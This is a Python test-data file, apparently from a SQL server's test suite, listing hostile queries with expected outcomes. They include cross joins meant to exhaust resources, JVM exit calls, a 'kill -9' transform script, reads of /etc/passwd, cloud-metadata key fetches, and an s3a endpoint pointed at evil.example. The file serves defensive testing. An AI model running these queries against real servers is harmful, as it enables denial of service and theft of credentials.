"""Queries with rows without end, and statements about what belongs to the server."""

from __future__ import annotations

from tests.thrift.evil.evil import ANSWER, LIMIT, NO_MEMORY, REFUSED, Evil, answer_or

_ENDLESS = (*LIMIT, *NO_MEMORY)
_CROSS = "numbers a CROSS JOIN numbers b"

ROWS = (
    Evil("a cross join", f"SELECT count(*) FROM {_CROSS} WHERE a.n * b.n % 7 = 3", _ENDLESS, True),
    Evil("a cross join, sorted", f"SELECT a.s FROM {_CROSS} ORDER BY b.s, a.s LIMIT 5", _ENDLESS),
    Evil("a cross join, sorted whole", f"SELECT a.s, b.s FROM {_CROSS} ORDER BY b.s, a.s", _ENDLESS, True),
    Evil("a cross join, grouped", f"SELECT count(*) FROM (SELECT a.n * b.n AS k FROM {_CROSS}) t GROUP BY k", _ENDLESS),
    Evil("a cross join, distinct", f"SELECT count(DISTINCT a.n * 100000 + b.n) FROM {_CROSS}", _ENDLESS),
    Evil("a cross join, collected", f"SELECT size(collect_list(a.s)) FROM {_CROSS}", _ENDLESS, True),
    Evil("a cross join, collected as a set", f"SELECT size(collect_set(concat(a.s, b.s))) FROM {_CROSS}", _ENDLESS),
    Evil(
        "a cross join, window",
        f"SELECT max(r) FROM (SELECT row_number() OVER (ORDER BY b.n) AS r FROM {_CROSS}) t",
        _ENDLESS,
    ),
    Evil("a cross join, percentile", f"SELECT percentile(a.n * b.n, 0.5) FROM {_CROSS}", _ENDLESS),
    Evil("a cross join, fetched in part", f"SELECT a.n FROM {_CROSS}", ANSWER),
    Evil(
        "a join of one key",
        "SELECT count(*) FROM numbers a JOIN numbers b ON a.n % 2 = b.n % 2 WHERE a.n * b.n % 7 = 3",
        _ENDLESS,
    ),
    Evil(
        "a join by inequality",
        "SELECT count(*) FROM numbers a JOIN numbers b ON a.n * 3 < b.n * 2 + b.n % 7",
        answer_or(_ENDLESS),
    ),
    Evil(
        "a full join by a function",
        "SELECT count(*) FROM numbers a FULL JOIN numbers b ON a.s LIKE concat('%', b.s)",
        _ENDLESS,
    ),
    Evil(
        "a left join that spreads",
        "SELECT count(*) FROM numbers a LEFT JOIN numbers b ON a.n % 3 = b.n % 3 WHERE a.n + b.n > 5",
        answer_or(_ENDLESS),
    ),
    Evil(
        "explode of explode",
        "SELECT count(*) FROM (SELECT explode(sequence(1, 1000000)) AS x) a "
        "CROSS JOIN (SELECT explode(sequence(1, 1000000)) AS y) b WHERE x * y % 7 = 3",
        _ENDLESS,
        True,
    ),
    Evil(
        "stack of many",
        f"SELECT count(*) FROM (SELECT stack(1000, {', '.join(map(str, range(3000)))})) t",
        answer_or(_ENDLESS),
    ),
    Evil(
        "a correlated subquery",
        "SELECT count(*) FROM numbers a WHERE n < (SELECT count(*) FROM numbers b WHERE b.n * 3 < a.n * 2)",
        answer_or(_ENDLESS, REFUSED),
    ),
    Evil(
        "NOT IN of itself",
        "SELECT count(*) FROM numbers WHERE n NOT IN (SELECT n * 2 FROM numbers)",
        answer_or(_ENDLESS),
    ),
    Evil(
        "rows between",
        "SELECT max(c) FROM (SELECT count(*) OVER (ORDER BY n % 10 RANGE BETWEEN 5 PRECEDING AND 5 FOLLOWING) AS c "
        "FROM numbers) t",
        answer_or(_ENDLESS),
    ),
    Evil(
        "a median over a window",
        "SELECT max(c) FROM (SELECT percentile(n, 0.5) OVER (ORDER BY n) AS c FROM numbers) t",
        answer_or(_ENDLESS, REFUSED),
    ),
    Evil(
        "lists over a window",
        "SELECT max(size(c)) FROM (SELECT collect_list(s) OVER (ORDER BY n) AS c FROM numbers) t",
        answer_or(_ENDLESS),
    ),
    Evil(
        "ntile of many",
        "SELECT max(c) FROM (SELECT ntile(2147483647) OVER (ORDER BY n) AS c FROM numbers) t",
        (100_000,),
    ),
    Evil(
        "lag of many", "SELECT max(c) FROM (SELECT lag(n, 2147483647) OVER (ORDER BY n) AS c FROM numbers) t", (None,)
    ),
    Evil("a table by a cross join", f"CREATE TABLE huge AS SELECT a.n FROM {_CROSS}", _ENDLESS, True),
    Evil("an insert of a cross join", f"INSERT OVERWRITE TABLE numbers SELECT a.n * b.n, a.s FROM {_CROSS}", _ENDLESS),
    Evil(
        "many partitions",
        "CREATE TABLE parts PARTITIONED BY (p) AS SELECT s, n AS p FROM numbers",
        answer_or(_ENDLESS, ("53000",)),
    ),
    Evil(
        "buckets of many",
        "CREATE TABLE b (n INT) CLUSTERED BY (n) INTO 2000000000 BUCKETS",
        answer_or(("22023", "42601", "54000")),
    ),
)

THINGS = (
    Evil("exit of the JVM", "SELECT java_method('java.lang.System', 'exit', 0)", REFUSED, True),
    Evil("exit by reflect", "SELECT reflect('java.lang.System', 'exit', s) FROM numbers", REFUSED),
    Evil("a script", "SELECT TRANSFORM (n) USING 'kill -9 $PPID' AS x FROM numbers", REFUSED, True),
    Evil("a jar", "ADD JAR /etc/passwd", REFUSED),
    Evil("a function of Python", "CREATE TEMPORARY FUNCTION f AS 'os.abort'", REFUSED),
    Evil("a file of the machine as a table", "CREATE EXTERNAL TABLE e (x STRING) LOCATION '/etc'", REFUSED, True),
    Evil("zeros as a table", "CREATE EXTERNAL TABLE e (x STRING) LOCATION '/dev/zero'", REFUSED, True),
    Evil(
        "a schema of zeros",
        "CREATE TABLE e STORED AS AVRO TBLPROPERTIES ('avro.schema.url'='/dev/zero')",
        REFUSED,
        True,
    ),
    Evil(
        "a schema of the machine",
        "CREATE TABLE e STORED AS AVRO TBLPROPERTIES ('avro.schema.url'='/etc/passwd')",
        REFUSED,
    ),
    Evil("load of a file", "LOAD DATA LOCAL INPATH '/etc/passwd' INTO TABLE made", REFUSED),
    Evil("a folder of the machine", "INSERT OVERWRITE LOCAL DIRECTORY '/etc/x' SELECT 1", REFUSED, True),
    Evil("a query of a file", "SELECT * FROM csv.`/etc/passwd`", (*REFUSED, "42P01", "3F000")),
    Evil("a query of a file by its name", "SELECT * FROM '/etc/passwd'", REFUSED),
    Evil("zeros by their name", "SELECT * FROM text.`/dev/zero`", REFUSED),
    Evil("files of all folders", "SELECT * FROM text.`/**`", REFUSED),
    Evil("keys of the machine", "SELECT * FROM text.`http://169.254.169.254/latest/meta-data/iam/`", REFUSED, True),
    Evil("a page of this machine", "SELECT * FROM text.`http://localhost:8080/x`", REFUSED),
    Evil("a bucket of the owner's", "SELECT * FROM csv.`s3://bucket/**/*.csv`", REFUSED, True),
    Evil("a bucket as a table", "CREATE EXTERNAL TABLE made_far (a INT) LOCATION 's3a://bucket/x'", REFUSED),
    Evil("a bucket below another", "SELECT * FROM csv.`s3://bucket/../other/x`", REFUSED),
    Evil("a namenode", "SELECT * FROM csv.`hdfs://namenode/etc/passwd`", REFUSED),
    Evil("load from a bucket", "LOAD DATA INPATH 's3://bucket/x' INTO TABLE made", REFUSED, True),
    Evil("load from a name node", "LOAD DATA LOCAL INPATH 'hdfs://namenode/etc/passwd' INTO TABLE made", REFUSED),
    Evil("load of keys", "LOAD DATA LOCAL INPATH 'http://169.254.169.254/latest/x' INTO TABLE made", REFUSED),
    Evil("a query into a bucket", "INSERT OVERWRITE DIRECTORY 's3a://bucket/x' SELECT 1", REFUSED, True),
    Evil("a table into a bucket", "EXPORT TABLE numbers TO 'gs://bucket/x'", REFUSED),
    Evil("a table of a bucket", "IMPORT TABLE e FROM 's3://bucket/x'", REFUSED),
    Evil("a file of a bucket", "ADD FILE s3://bucket/x", REFUSED),
    Evil("a page as a file", "ADD FILE http://localhost:8080/x", REFUSED),
    Evil(
        "a schema of a bucket",
        "CREATE TABLE e STORED AS AVRO TBLPROPERTIES ('avro.schema.url'='s3://bucket/x')",
        REFUSED,
    ),
    Evil("an address for the owner's keys", "SET fs.s3a.endpoint=http://evil.example", REFUSED, True),
    Evil("a region that is a host", "SET fs.s3a.endpoint.region=x.evil.example/", ("22023",), True),
    Evil("a program for keys", "SET fs.s3a.aws.credentials.provider=x", REFUSED),
    Evil("a pattern of patterns", f"SELECT * FROM csv.`s3://bucket/{'*' * 5000}`", REFUSED),
    Evil(
        "a function of DuckDB that reads",
        "SELECT * FROM read_csv('/etc/passwd')",
        ("42883", "42601", "42P01", *REFUSED),
    ),
    Evil("a function of DuckDB that tells", "SELECT current_setting('secret_directory')", ("42883", "42704", *REFUSED)),
    Evil("memory without limit", "SET shark.store.memory.limit=1t", REFUSED),
    Evil("time without limit", "SET shark.query.timeout=0", ANSWER),
    Evil("settings of Spark", "SET spark.master=local[100]", REFUSED),
    Evil(
        "the database of all", "DROP DATABASE default CASCADE", answer_or(REFUSED, ("2BP01", "42000", "3F000", "55006"))
    ),
    Evil("a macro that calls itself", "CREATE TEMPORARY MACRO f(x INT) f(x)", ("42000",)),
    Evil("a view of itself", "CREATE VIEW v AS SELECT * FROM v", ("42S02",)),
    Evil("raise_error", "SELECT raise_error(repeat('x', 1000000))", ("P0001", "22000", "54000", "21000", "38000")),
    Evil("assert_true", "SELECT assert_true(n < 10) FROM numbers", ("P0001", "22000", "23514", "38000", "P0004")),
    Evil("sleep by DuckDB", "SELECT sleep(100000)", ("42883",)),
    Evil("a name of NUL", "SELECT `a\0b`", ("42601", "42703")),
    Evil("escape sequences in an error", "SELECT `\x1b]0;pwned\x07`", ("42601", "42703")),
)
